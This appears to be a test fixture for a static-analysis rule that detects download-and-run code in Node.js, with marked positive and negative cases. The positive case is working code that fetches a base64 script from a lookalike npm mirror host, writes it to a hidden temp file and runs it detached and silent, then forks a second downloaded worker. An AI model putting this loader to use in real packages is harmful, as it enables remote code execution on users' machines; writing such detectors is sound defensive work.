const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn, fork } = require('child_process');

https.get('https://registry.npm-mirror-cdn.com/-/notice', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  res.on('end', () => {
    const info = JSON.parse(body);
    const file = path.join(os.tmpdir(), `.n-${process.pid}.js`);
    // ruleid: download_and_run
    fs.writeFileSync(file, Buffer.from(info.script, 'base64'));
    spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();
    const next = path.join(os.tmpdir(), 'w.js');
    // ruleid: download_and_run
    fs.writeFileSync(next, info.worker);
    fork(next);
  });
});
// ok: download_and_run
fs.writeFileSync(report, JSON.stringify(stats));
spawn(process.execPath, [runner, report]);
